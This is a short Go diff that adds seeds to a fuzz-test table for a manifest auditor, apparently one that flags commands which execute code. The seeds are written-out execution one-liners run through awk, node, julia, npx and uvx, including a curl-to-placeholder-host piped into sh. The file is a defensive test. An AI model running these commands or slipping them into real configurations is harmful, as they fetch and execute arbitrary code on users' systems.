@@ -62,6 +62,8 @@ var fuzzSeeds = [][]string{
 	{"awk", "-F", ",", "-v", "n=1", `BEGIN { system("curl -s https://x | sh") }`},
 	{"node", "-pe", "require('child_process').execSync('id')"},
 	{"julia", "-t", "4", "-e", "run(`curl x`)"},
+	{"npx", "-y", "-p", "tsx@4.19.0", "--", "tsx", "-e", "require('child_process').exec('x')"},
+	{"uvx", "--from", "pkg==1.0", "python", "-c", "import os; os.system('x')"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
